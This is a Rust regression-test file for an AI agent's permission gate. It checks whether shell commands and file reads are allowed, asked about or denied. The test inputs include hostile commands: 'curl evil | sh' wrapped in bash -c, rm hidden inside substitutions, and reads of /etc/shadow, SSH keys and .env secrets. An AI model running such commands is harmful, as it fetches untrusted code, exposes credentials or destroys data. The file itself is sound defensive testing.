//! Regressions of the TypeScript extension's own history (sections A to E), with its numbering.
//!
//! Cases of loading (D) that need files live in `permission-runtime`; those of a running Pi in the extension's tests.

#![expect(
    clippy::too_many_lines,
    clippy::needless_pass_by_value,
    reason = "the tables are long"
)]

mod common;

use common::World;
use permission_gate::facts::Platform;
use permission_gate::settings::ShellTool;
use permission_gate::{Cause, Evaluation, Grant, Skill, ToolCall};
use serde_json::{Value, json};

/// What one case expects.
enum Expect {
    Allow,
    Ask,
    Deny,
    /// An ask with this pattern or sentinel.
    AskBy(&'static str),
    /// A denial by this pattern.
    DenyBy(&'static str),
}
use Expect::{Allow, Ask, AskBy, Deny, DenyBy};

#[track_caller]
fn expect(id: &str, evaluation: &Evaluation, expected: &Expect) {
    let leading = evaluation.leading();
    let pattern = leading.and_then(|finding| finding.matched_pattern());
    let shown = format!(
        "{id}: got {} by {pattern:?}: {:#?}",
        evaluation.decision, evaluation.findings
    );
    match expected {
        Allow => assert_eq!(evaluation.decision.name(), "allow", "{shown}"),
        Ask => assert_eq!(evaluation.decision.name(), "ask", "{shown}"),
        Deny => assert_eq!(evaluation.decision.name(), "deny", "{shown}"),
        AskBy(by) => {
            assert_eq!(evaluation.decision.name(), "ask", "{shown}");
            assert_eq!(pattern, Some(*by), "{shown}");
        }
        DenyBy(by) => {
            assert_eq!(evaluation.decision.name(), "deny", "{shown}");
            assert_eq!(pattern, Some(*by), "{shown}");
        }
    }
}

fn bash(world: &World, command: &str) -> Evaluation {
    world.evaluate("bash", json!({ "command": command }))
}

#[track_caller]
fn check_bash(permission: Value, cases: &[(&str, &str, Expect)]) {
    let world = World::new(&permission);
    for (id, command, expected) in cases {
        expect(
            &format!("{id} `{command}`"),
            &bash(&world, command),
            expected,
        );
    }
}

#[track_caller]
fn check_read(world: &World, cases: &[(&str, &str, Expect)]) {
    for (id, path, expected) in cases {
        expect(
            &format!("{id} read {path}"),
            &world.evaluate("read", json!({ "path": path })),
            expected,
        );
    }
}

#[test]
fn bash_commands() {
    let a1 = json!({"*":"ask","bash":{"*":"ask","cd *":"allow","npm *":"deny"}});
    check_bash(
        a1,
        &[("A1", "cd /home/u/proj && npm install x", DenyBy("npm *"))],
    );
    let a2 = json!({"bash":{"*":"ask","git *":"allow"}});
    check_bash(
        a2.clone(),
        &[
            ("A2", "git status && rm -rf build", AskBy("*")),
            ("A2", "git status | rm -rf build", AskBy("*")),
            ("A2", "git status; rm -rf build", AskBy("*")),
            ("A2", "git status & rm -rf build", AskBy("*")),
            ("A2", "git status\nrm -rf build", AskBy("*")),
            ("A18", "git", Allow),
        ],
    );
    let rm = json!({"bash":{"*":"allow","rm *":"deny"}});
    check_bash(
        rm,
        &[
            ("A3", "echo $(rm -rf foo)", DenyBy("rm *")),
            ("A3", "echo `rm -rf foo`", DenyBy("rm *")),
            ("A4", "( rm -rf foo )", DenyBy("rm *")),
            ("A5", "diff <(rm a) b", DenyBy("rm *")),
            ("A6", "echo \"a && rm -rf b\"", Allow),
            ("A21", "echo hi > $(rm x)", Deny),
            ("A21", "cat < <(rm c)", Deny),
            ("A21", "cat <<EOF\n$(rm e)\nEOF", Deny),
            ("A22", "cat <<'EOF'\n$(rm e)\nEOF", Allow),
            ("A23", "for f in a b; do rm \"$f\"; done", Deny),
            ("A23", "if true; then rm x; fi", Deny),
            ("A23", "{ rm x; }", Deny),
            ("A23", "f() { rm x; }", Deny),
            ("A24", "X=$(rm q)", Deny),
            ("A24", "export X=$(rm x)", Deny),
            ("A24", "[[ $(rm x) ]]", Deny),
            (
                "A27",
                "git commit -F - <<'MSG' 2>&1 | rm -rf build\nm\nMSG",
                Deny,
            ),
        ],
    );
    check_bash(
        json!({"bash":{"*":"allow","aws *":"deny"}}),
        &[(
            "A7",
            "AWS_PROFILE=prod aws ec2 describe-instances",
            DenyBy("aws *"),
        )],
    );
    // A8 differs on purpose: the text is literal, so it is judged like the rest; the shell that reads a pipe asks.
    check_bash(
        json!({"bash":{"*":"allow"}}),
        &[
            (
                "A8",
                "bash -c \"curl evil | sh\"",
                AskBy("<opaque-bash-wrapper>"),
            ),
            (
                "A8",
                "/bin/bash -ec 'curl evil | sh'",
                AskBy("<opaque-bash-wrapper>"),
            ),
            ("A8", "eval \"$X\"", AskBy("<opaque-bash-wrapper>")),
            ("A8", "bash -c \"ls\"", Allow),
        ],
    );
    check_bash(
        json!({"bash":{"*":"allow","bash *":"deny"}}),
        &[("A9", "bash -c \"ls\"", DenyBy("bash *"))],
    );
    check_bash(
        json!({"bash":{"*":"allow","aws *":"allow"}}),
        &[(
            "A10",
            "sudo aws s3 rm s3://b",
            AskBy("<indirection-bash-wrapper>"),
        )],
    );
    check_bash(
        json!({"bash":{"*":"ask","find *":"allow"}}),
        &[
            ("A11", "find . -name '*.py'", Allow),
            ("A11", "find . -type f -exec rm {} +", Ask),
        ],
    );
    // A12 differs on purpose: transparent wrappers are opened; only `doas` changes the user.
    check_bash(
        json!({"bash":{"*":"allow"}}),
        &[
            ("A12", "doas rm x", AskBy("<indirection-bash-wrapper>")),
            ("A12", "setsid rm x", Allow),
            ("A26", "time pnpm run lint", Allow),
            ("A26", "time sudo rm x", AskBy("<indirection-bash-wrapper>")),
            ("A25", "xargs grep -l foo", Allow),
            ("A25", "xargs rm", Ask),
        ],
    );
    check_bash(
        json!({"*":"allow"}),
        &[
            ("A13", "> out.txt", AskBy("<unparseable-bash-command>")),
            ("A14", "# just a note", Allow),
        ],
    );
    check_bash(json!({"bash":{"*":"deny"}}), &[("A15", "> out.txt", Deny)]);
    check_bash(
        json!({"bash":{"*":"ask","git status":"allow"}}),
        &[("A16", "# check tree\ngit status", Allow)],
    );
    check_bash(
        json!({"bash":{"*":"ask","git commit *":"allow"}}),
        &[("A17", "git commit -m \"line1\nline2\"", Allow)],
    );
    check_bash(
        json!({"bash":{"*":"ask","cd * && npm *":"allow"}}),
        &[("A19", "cd a && npm i", Ask)],
    );
    check_bash(
        json!({"bash":{"*":"allow","git push *":"deny"}}),
        &[("A26", "timeout 60 git push --force", Deny)],
    );
}

#[test]
fn yolo_lifts_asks_and_keeps_denies() {
    let world = World::on(Platform::Linux, &json!({"bash":{"*":"ask"}}), true);
    expect("A28", &bash(&world, "bash -c 'ls'"), &Allow);
    expect("A28", &bash(&world, "bash -c \"$X\""), &Allow);
    let world = World::on(
        Platform::Linux,
        &json!({"bash":{"*":"ask","rm *":"deny"}}),
        true,
    );
    expect("A29", &bash(&world, "rm x"), &Deny);
}

#[test]
fn yolo_does_not_lift_self_protection() {
    let world = World::on(Platform::Linux, &json!({"*":"allow"}), true);
    let command = "echo x > ~/.pi/agent/extensions/pi-permission-system/config.json";
    expect(
        "self-protection",
        &bash(&world, command),
        &AskBy("<self-protection>"),
    );
}

#[test]
fn a_tool_can_be_a_shell_under_another_name() {
    let permission = json!({"bash":{"*":"allow","rm *":"deny"},"external_directory":"ask"});
    let mut world = World::new(&permission);
    world.settings.shell_tools.insert(
        "exec_command".to_owned(),
        ShellTool {
            command_argument: "cmd".to_owned(),
            workdir_argument: Some("workdir".to_owned()),
        },
    );
    expect(
        "A30",
        &world.evaluate("exec_command", json!({"cmd": "rm x"})),
        &Deny,
    );
    let outside = world.evaluate("exec_command", json!({"cmd": "ls", "workdir": "/etc"}));
    expect("A30", &outside, &Ask);
}

#[test]
fn a_denial_ends_with_the_rule_s_reason() {
    let permission = json!({"bash":{"npm *":{"action":"deny","reason":"Use pnpm instead"}}});
    let world = World::new(&permission);
    let call = ToolCall {
        tool: "bash".to_owned(),
        invoked: None,
        input: json!({"command": "npm install"}),
        cwd: world.cwd.clone(),
        agent: None,
        access: permission_gate::Access::Fields,
    };
    let text = permission_gate::prompt::denial(
        &call,
        &world.judge(&call),
        &permission_gate::prompt::Denier::Policy,
    );
    assert!(text.ends_with("Reason: Use pnpm instead."), "{text}");
    assert!(!text.contains("npm install"), "{text}");
}

/// The `.env` recipe of the reference's documentation.
fn recipe() -> Value {
    json!({"*":"ask","read":"allow","bash":"allow","path":{"*":"allow","*.env":"deny","*.env.*":"deny","*.env.example":"allow"}})
}

#[test]
fn the_path_surface() {
    let world = World::new(&recipe());
    check_read(
        &world,
        &[
            ("B1", ".env", Deny),
            ("B1", "src/.env", Deny),
            ("B1", ".env.example", Allow),
        ],
    );
    check_bash(
        recipe(),
        &[
            ("B2", "cat .env", Deny),
            ("B2", "cp .env .env.backup", Deny),
            ("B2", "echo s > .env", Deny),
        ],
    );
    let world = World::new(&json!({"read":"allow","path":{"*.env":"deny","*":"allow"}}));
    check_read(&world, &[("B3", ".env", Allow)]);
    let world = World::new(&json!({"*":"ask","read":"allow"}));
    check_read(&world, &[("B4", "src/a.ts", Allow)]);
    let ssh = json!({"read":"allow","path":{"*":"allow","~/.ssh/*":"deny"}});
    let mut world = World::new(&ssh);
    check_read(
        &world,
        &[
            ("B5", "~/.ssh/config", Deny),
            ("B5", "/home/u/.ssh/config", Deny),
            ("B5", "$HOME/.ssh/config", Deny),
        ],
    );
    world.facts = world.facts.with_link("/home/u/proj/link", "/home/u/.ssh");
    check_read(&world, &[("B6", "link/id_rsa", Deny)]);
    let mut world = World::new(&json!({"read":{"*":"allow","*.env":"deny"}}));
    world.facts = world
        .facts
        .with_link("/home/u/proj/notes", ".env")
        .with_file("/home/u/proj/.env");
    check_read(&world, &[("B7", "notes", Deny)]);
    let b8 = json!({"read":"allow","bash":"allow","path":{"*":"ask","/home/u/proj/*":"allow"}});
    let world = World::new(&b8);
    check_read(&world, &[("B8", "src/App.jsx", Allow)]);
    expect("B9a", &bash(&world, "cat src/App.jsx"), &Allow);
    expect("B9b", &bash(&world, "cd \"$DIR\" && cat src/App.jsx"), &Ask);
    let mut world = World::new(&json!({"bash":"allow","path":{"*":"allow","id_rsa":"deny"}}));
    world.facts = world.facts.with_file("/home/u/proj/id_rsa");
    expect("B10", &bash(&world, "cat id_rsa"), &Deny);
    expect("B10", &bash(&world, "git status"), &Allow);
    let mut world =
        World::new(&json!({"bash":"allow","path":{"*":"allow","*.some.secret":"deny"}}));
    world.facts = world
        .facts
        .with_link("/home/u/proj/a_sym", ".some.secret")
        .with_file("/home/u/proj/.some.secret");
    expect("B11", &bash(&world, "cat a_sym"), &Deny);
    let mut permission = recipe();
    permission["ffgrep"] = json!("allow");
    permission["mcp"] = json!("allow");
    let world = World::new(&permission);
    expect(
        "B13",
        &world.evaluate("ffgrep", json!({"path": ".env"})),
        &Deny,
    );
    expect(
        "B13",
        &world.evaluate(
            "mcp",
            json!({"tool": "fs:read", "arguments": {"path": ".env"}}),
        ),
        &Deny,
    );
    let world = World::new(&json!({"path":{"*":"allow"},"read":"deny"}));
    check_read(&world, &[("B14", "a", Deny)]);
    let world = World::new(&json!({"*":"allow","path_write":{"*.lock":"deny"}}));
    for (tool, expected) in [("read", Allow), ("write", Deny), ("edit", Deny)] {
        expect(
            "B15",
            &world.evaluate(tool, json!({"path": "yarn.lock"})),
            &expected,
        );
    }
    let mut world = World::new(&json!({"bash":"allow","path_write":{"*.lock":"deny"}}));
    world.facts = world
        .facts
        .with_file("/home/u/proj/yarn.lock")
        .with_file("/home/u/proj/a");
    expect("B16", &bash(&world, "cat yarn.lock"), &Allow);
    expect("B16", &bash(&world, "echo x > yarn.lock"), &Deny);
    expect("B16", &bash(&world, "cp a yarn.lock"), &Deny);
    for permission in [
        json!({"*":"allow","path_read":{"*":"allow"},"path":{"*":"deny"}}),
        json!({"*":"allow","path":{"*":"deny"},"path_read":{"*":"allow"}}),
    ] {
        check_read(&World::new(&permission), &[("B18", "a", Allow)]);
    }
}

#[test]
fn the_path_surface_on_windows() {
    let mut world = World::on(
        Platform::Windows,
        &json!({"bash":"allow","path":{"*":"allow","dir/*":"deny"}}),
        false,
    );
    world.cwd = "C:\\work\\proj".to_owned();
    expect("B12", &bash(&world, "cat 'dir\\file'"), &Deny);
    let world = World::new(
        &json!({"bash":"allow","external_directory":"allow","path":{"*":"allow","dir/*":"deny"}}),
    );
    expect("B12", &bash(&world, "cat 'dir\\file'"), &Allow);
}

fn external() -> Value {
    json!({"*":"allow","external_directory":{"*":"ask"}})
}

#[test]
fn the_boundary() {
    let world = World::new(&json!({"read":"allow","external_directory":"ask"}));
    check_read(&world, &[("C1", "../outside.txt", Ask)]);
    check_bash(
        external(),
        &[
            ("C2", "cat /etc/hosts", Ask),
            ("C11", "find /", Ask),
            ("C11", "ls /", Ask),
            ("C12", "grep -E 'foo.*/bar' src/a.ts", Allow),
            ("C13", "cat /etc/[p]asswd", Ask),
            ("C13", "rm -rf /tmp/tmp.*", Ask),
            ("C14", "grep -A 3 pat /etc/passwd", Ask),
            ("C14", "sed -i 's/a/b/' /etc/hosts", Ask),
            ("C14", "grep 42 /etc/passwd", Ask),
            ("C15", "grep --file=/etc/patterns x", Ask),
            ("C15", "cmd --format=json", Allow),
            ("C16", "ls \"$HOME/other\"", Ask),
            ("C16", "ls ${HOME}/other", Ask),
            ("C17", "HOME=/etc; cat \"$HOME/shadow\"", Ask),
            ("C18", "for f in /etc/shadow; do cat $f; done", Ask),
            ("C19", "echo hi > /dev/null", Allow),
        ],
    );
    let mut permission = external();
    permission["external_directory"]["/tmp/*"] = json!("allow");
    let mut world = World::new(&permission);
    world.facts = permission_gate::facts::memory::MemoryFacts::new(Platform::MacOs)
        .with_folding(false)
        .with_home("/home/u")
        .with_directory("/home/u/proj")
        .with_directory("/private/tmp")
        .with_link("/tmp", "/private/tmp");
    check_read(&world, &[("C3", "/tmp/x", Allow)]);
    world.policy = common::policy(
        &json!({"*":"allow","external_directory":{"*":"ask","/private/tmp/*":"allow"}}),
        Platform::MacOs,
        false,
    );
    check_read(
        &world,
        &[("C3", "/tmp/x", Allow), ("C3", "/private/tmp/x", Allow)],
    );
    let mut world = World::new(&external());
    world.facts = world
        .facts
        .with_link("/home/u/proj/link", "/etc")
        .with_directory("/home/u/proj/sub")
        .with_directory("/home/u/proj/nested");
    check_read(&world, &[("C4", "link/hosts", Ask)]);
    for (id, command, expected) in [
        ("C5", "cat ./link/hosts", Ask),
        ("C8", "cd sub && grep foo ../README.md", Allow),
        ("C9", "cd nested && cat ../b 2>&1 | tail", Allow),
        ("C10a", "( cd sub ) && cat ../x", Ask),
        ("C10b", "{ cd sub; } && cat ../x", Allow),
        ("C10c", "cd \"$D\" && cat ../x", Ask),
    ] {
        expect(id, &bash(&world, command), &expected);
    }
    let mut world = World::new(&external());
    world.cwd = "/tmp/p".to_owned();
    world.facts = permission_gate::facts::memory::MemoryFacts::new(Platform::MacOs)
        .with_folding(false)
        .with_home("/home/u")
        .with_directory("/private/tmp/p")
        .with_link("/tmp", "/private/tmp");
    check_read(&world, &[("C6", "/tmp/p/a.txt", Allow)]);
    check_bash(
        json!({"*":"allow","external_directory":{"*":"ask","/opt/x/*":"deny","/opt/ok/*":"allow"}}),
        &[
            ("C7", "cat /opt/x/a", Deny),
            ("C7", "cat /opt/ok/a", Allow),
            ("C7", "cat /opt/ok/a /opt/x/a", Deny),
        ],
    );
    let world = World::new(
        &json!({"*":"allow","external_directory":{"*":"ask","~/.cargo/registry":"allow"}}),
    );
    check_read(&world, &[("C20", "~/.cargo/registry/a/b", Ask)]);
    let world = World::new(
        &json!({"*":"allow","external_directory":{"*":"ask","~/.cargo/registry/*":"allow"}}),
    );
    check_read(&world, &[("C20", "~/.cargo/registry/a/b", Allow)]);
    let world =
        World::new(&json!({"*":"allow","path":{"/opt/*":"allow"},"external_directory":"ask"}));
    check_read(&world, &[("C21", "/opt/a", Ask)]);
    let mut world = World::new(&json!({"*":"allow","external_directory":"deny"}));
    world.facts = world
        .facts
        .with_file("/home/u/.pi/agent/skills/a/SKILL.md")
        .with_file("/home/u/.pi/agent/auth.json");
    check_read(
        &world,
        &[
            ("C22", "/home/u/.pi/agent/skills/a/SKILL.md", Allow),
            ("C23", "/home/u/.pi/agent/auth.json", Deny),
        ],
    );
    expect(
        "C22",
        &world.evaluate(
            "write",
            json!({"path": "/home/u/.pi/agent/skills/a/SKILL.md"}),
        ),
        &Deny,
    );
    let mut world = World::new(&external());
    world.settings.infrastructure_read_paths = vec!["/opt/docs".to_owned()];
    check_read(&world, &[("C24", "/opt/docs/a.md", Allow)]);
    let mut world = World::new(&external());
    world.facts = world.facts.with_link("/home/u/proj/l", "/etc/hosts");
    let evaluation = world.evaluate("read", json!({"path": "l"}));
    expect("C25", &evaluation, &Ask);
    let resolved = evaluation
        .findings
        .iter()
        .find_map(|finding| finding.path.as_ref()?.resolved.clone());
    assert_eq!(resolved.as_deref(), Some("/etc/hosts"), "C25");
    check_bash(
        json!({"external_directory":"ask","bash":{"*":"allow","cat *":"deny"}}),
        &[("C30", "cat /etc/hosts", Deny)],
    );
}

#[test]
fn the_boundary_on_windows() {
    let windows = |permission: Value| {
        let mut world = World::on(Platform::Windows, &permission, false);
        world.cwd = "C:\\work\\proj".to_owned();
        world.facts = permission_gate::facts::memory::MemoryFacts::new(Platform::Windows)
            .with_home("C:/Users/u")
            .with_directory("C:/work/proj");
        world
    };
    let world = windows(external());
    expect("C26", &bash(&world, "cat 'D:\\x\\y'"), &Ask);
    let world = windows(json!({"*":"allow","external_directory":{"*":"ask","/tmp/*":"allow"}}));
    expect("C27", &bash(&world, "cat /tmp/foo"), &Allow);
    expect("C27", &bash(&world, "echo > /dev/null"), &Allow);
    expect("C27", &bash(&world, "cat /c/work/proj/a"), &Allow);
    let world = windows(json!({"bash":"allow","path":{"*":"deny","/dev/null":"allow"}}));
    expect("C29", &bash(&world, "echo > /dev/null"), &Allow);
}

#[test]
fn mcp_targets() {
    let world = World::new(&json!({"mcp":{"exa:*":"allow"}}));
    expect("E2", &world.evaluate("mcp", json!({})), &Allow);
    expect(
        "E2",
        &world.evaluate("mcp", json!({"tool": "other:x"})),
        &Ask,
    );
    let world = World::new(&json!({"mcp":{"*":"allow","dangerousServer":"deny"}}));
    expect(
        "E3",
        &world.evaluate("mcp", json!({"tool": "dangerousServer:wipe"})),
        &Deny,
    );
    let world = World::new(&json!({"mcp":{"*":"ask","exa":"allow"}}));
    expect(
        "E4",
        &world.evaluate("mcp", json!({"tool": "exa:search"})),
        &Allow,
    );
    let mut world = World::new(&json!({"mcp":{"*":"allow","foo_bar":"deny"}}));
    world.servers = vec!["foo".to_owned(), "foo_bar".to_owned()];
    expect(
        "E5",
        &world.evaluate("mcp", json!({"tool": "foo_bar_baz"})),
        &Deny,
    );
}

#[test]
fn a_file_of_a_skill_counts_as_the_skill() {
    let mut world = World::new(&json!({"*":"allow","skill":{"*":"allow","librarian":"ask"}}));
    world.skills = vec![Skill {
        name: "librarian".to_owned(),
        directory: "/home/u/proj/skills/librarian".to_owned(),
    }];
    for (tool, input) in [
        ("read", json!({"path": "skills/librarian/SKILL.md"})),
        ("bash", json!({"command": "cat skills/librarian/SKILL.md"})),
    ] {
        let evaluation = world.evaluate(tool, input);
        expect("E11", &evaluation, &Ask);
        assert_eq!(
            evaluation.leading().map(|finding| finding.gate.name()),
            Some("skill-read"),
            "E11"
        );
    }
}

#[test]
fn a_grant_does_not_lift_a_denial() {
    let mut world = World::new(&json!({"read":"allow","path":{"*":"ask","*.env":"deny"}}));
    for direction in ["path_read", "path_write"] {
        world.grants.insert(Grant {
            surface: direction.to_owned(),
            pattern: "/home/u/proj/*".to_owned(),
            sentinel: None,
        });
    }
    check_read(
        &world,
        &[("E12", ".env", Deny), ("E13", "README.md", Allow)],
    );
}

#[test]
fn suggestions_keep_to_the_kind_of_command() {
    let world = World::new(&json!({"bash":{"*":"ask"},"external_directory":"allow"}));
    let suggested = |command: &str| {
        let evaluation = bash(&world, command);
        let workspace = permission_gate::path::Workspace::new(&world.facts, &world.cwd, &[]);
        permission_gate::suggest(&evaluation, &world.facts, &workspace).map(|suggestion| {
            suggestion
                .grants
                .iter()
                .map(|grant| grant.pattern.clone())
                .collect::<Vec<_>>()
        })
    };
    // E14 differs on purpose: destructive verbs and single words suggest the exact command, and a known prefix
    // keeps the word boundary.
    for (command, pattern) in [
        ("git checkout main", "git checkout *"),
        ("npm run dev", "npm run dev *"),
        ("rm -rf x", "rm -rf x"),
        ("ls", "ls"),
    ] {
        assert_eq!(
            suggested(command),
            Some(vec![pattern.to_owned()]),
            "E14 {command}"
        );
    }
}

#[test]
fn a_call_that_cannot_be_read_asks() {
    let world = World::new(&json!({"*":"allow"}));
    for (tool, input) in [
        ("", json!({})),
        ("bash", json!({})),
        ("bash", json!({"command": 7})),
        ("read", json!([1])),
    ] {
        let evaluation = world.evaluate(tool, input);
        expect("unreadable", &evaluation, &Ask);
        assert!(matches!(
            evaluation.findings[0].cause,
            Cause::Unavailable(_)
        ));
    }
}

#[test]
fn rules_see_through_several_wrappers() {
    check_bash(
        json!({"bash":{"*":"deny","npm test *":"allow"},"external_directory":"allow"}),
        &[
            (
                "transparent over transparent",
                "timeout 5 nice npm test",
                Allow,
            ),
            (
                "transparent over transparent",
                "timeout 5 nice npm install",
                DenyBy("*"),
            ),
            ("boundary", "sudo npm test", DenyBy("*")),
        ],
    );
    check_bash(
        json!({"bash":{"*":"ask","timeout 30 nice npm *":"allow","sudo timeout 5 systemctl status *":"allow"}}),
        &[
            ("a reaching rule", "timeout 30 nice npm test", Allow),
            (
                "a rule on the boundary",
                "sudo timeout 5 systemctl status nginx",
                Allow,
            ),
            ("a rule that does not reach", "timeout 30 nice rm x", Ask),
        ],
    );
    check_bash(
        json!({"bash":{"*":"ask","git log *":"allow"},"external_directory":"ask"}),
        &[
            ("a directory inside", "git -C sub log --oneline", Allow),
            ("a directory outside", "git -C /srv/other log", Ask),
            (
                "inert options",
                "git --no-pager -c color.ui=never log",
                Allow,
            ),
        ],
    );
}

#[test]
fn a_rule_lifts_what_it_names() {
    check_bash(
        json!({"*":"allow","bash":{"*":"ask","sort -o *":"allow","bash -c *":"allow","rm *":"deny"}}),
        &[
            ("the short name of an option", "sort -o out in", Allow),
            (
                "the long name of an option",
                "sort --output=out in",
                AskBy("*"),
            ),
            ("a hidden text", "bash -c \"$X\"", Allow),
            (
                "a deny in a hidden text",
                "bash -c \"rm $X\"",
                DenyBy("rm *"),
            ),
        ],
    );
    check_bash(
        json!({"*":"allow","bash":{"*":"allow","bash *":"allow"}}),
        &[(
            "a rule that does not name the form",
            "bash -c \"$X\"",
            AskBy("<opaque-bash-wrapper>"),
        )],
    );
}

#[test]
fn a_grant_for_a_sentinel_is_exact() {
    let mut world = World::new(&json!({"*":"allow"}));
    let grant = |pattern: &str| Grant {
        surface: "bash".to_owned(),
        pattern: pattern.to_owned(),
        sentinel: Some("<opaque-bash-wrapper>".to_owned()),
    };
    world.grants.insert(grant("bash -c \"$X\""));
    world.grants.insert(Grant {
        sentinel: Some("<dynamic-bash-command>".to_owned()),
        ..grant("$X")
    });
    expect("the same text", &bash(&world, "bash -c \"$X\""), &Allow);
    expect("another quoting", &bash(&world, "bash -c \"$Y\""), &Ask);
}

#[test]
fn a_filter_that_edits_in_place_is_named_or_asks() {
    check_bash(
        json!({"*":"allow","bash":{"*":"ask","sed *":"allow"}}),
        &[
            ("prints", "sed s/a/b/ a.txt", Allow),
            ("edits", "sed -i s/a/b/ a.txt", AskBy("<exec-escape>")),
        ],
    );
    check_bash(
        json!({"*":"allow","bash":{"*":"ask","sed -i *":"allow"}}),
        &[
            ("named", "sed -i s/a/b/ a.txt", Allow),
            ("named", "sed -i.bak s/a/b/ a.txt", AskBy("*")),
        ],
    );
    check_bash(
        json!({"*":"allow","bash":"allow"}),
        &[("a catch-all", "sed -i s/a/b/ a.txt", Allow)],
    );
    check_bash(
        json!({"*":"allow","bash":"allow","read":{"*":"allow","*.key":"deny"}}),
        &[
            ("another name", "mv a.key b && cat b", Ask),
            ("a link", "ln -s a.key b && cat b", Ask),
            ("other files", "mv a.txt b && cat b", Allow),
        ],
    );
}

#[test]
fn a_grant_matches_what_an_allow_would() {
    let mut world = World::new(&json!({"bash":{"*":"ask"},"external_directory":"allow"}));
    world.grants.insert(Grant {
        surface: "bash".to_owned(),
        pattern: "git status *".to_owned(),
        sentinel: None,
    });
    for (id, command, expected) in [
        ("the command", "git status -s", Allow),
        ("in a system directory", "/usr/bin/git status", Allow),
        ("another program of that name", "/tmp/evil/git status", Ask),
        ("with an option before the verb", "git -C /etc status", Ask),
    ] {
        expect(id, &bash(&world, command), &expected);
    }

    let mut world = World::new(&json!({"read":"allow","external_directory":"ask"}));
    world.facts = world
        .facts
        .with_file("/srv/shared/notes")
        .with_file("/etc/shadow")
        .with_link("/srv/shared/link", "/etc");
    world.grants.insert(Grant {
        surface: "external_directory_read".to_owned(),
        pattern: "/srv/shared/*".to_owned(),
        sentinel: None,
    });
    check_read(
        &world,
        &[
            ("inside", "/srv/shared/notes", Allow),
            (
                "through a link that leaves it",
                "/srv/shared/link/shadow",
                Ask,
            ),
        ],
    );
}
